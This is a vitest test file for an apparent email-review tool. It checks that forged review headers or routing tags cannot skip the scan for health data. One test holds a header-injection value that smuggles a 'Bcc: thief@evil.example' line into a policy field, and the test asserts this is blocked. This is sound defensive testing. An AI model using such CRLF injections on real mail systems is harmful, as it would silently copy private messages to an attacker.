import { describe, expect, it } from 'vitest';
import { review } from '../../core/index.ts';
import { draftOf, PHI_TEXT, PLAIN_TEXT, settingOf } from '../draft-of.ts';

const CLEARED = { 'x-mailward-review': 'v=1; exposure=none; policy=x; unread=0; id=y' };

describe('a header or tag is a routing hint, never proof of a check', () => {
  it('a forged review header clears nothing', async () => {
    const plain = await review(draftOf({ text: PHI_TEXT }), settingOf());
    const forged = await review(draftOf({ text: PHI_TEXT, headers: CLEARED }), settingOf());
    expect(forged.decision).toEqual(plain.decision);
    expect(forged.decision.action).toBe('protect');
  });

  it('a tag or route that stands there already does not spare the review', async () => {
    const draft = draftOf({ text: PHI_TEXT, subject: 'Ana Ruiz +encrypt+', headers: { 'x-mailward-route': 'portal' } });
    const { exposure, decision } = await review(draft, settingOf());
    expect(exposure.level).toBe('phi');
    expect(decision.headers['X-Mailward-Review']).toContain('exposure=phi');
  });

  it('the review header says levels, counts and identifiers, and can carry no second header', async () => {
    const policy = { ...settingOf().policy, version: 'v1\r\nBcc: thief@evil.example; unread=0' };
    const { decision } = await review(draftOf({ text: PLAIN_TEXT }), settingOf({ policy }));
    expect(decision.headers['X-Mailward-Review']).toMatch(
      /^v=1; exposure=none; policy=[!-:<-~]+; unread=0; id=[0-9a-f-]{36}$/,
    );
  });
});
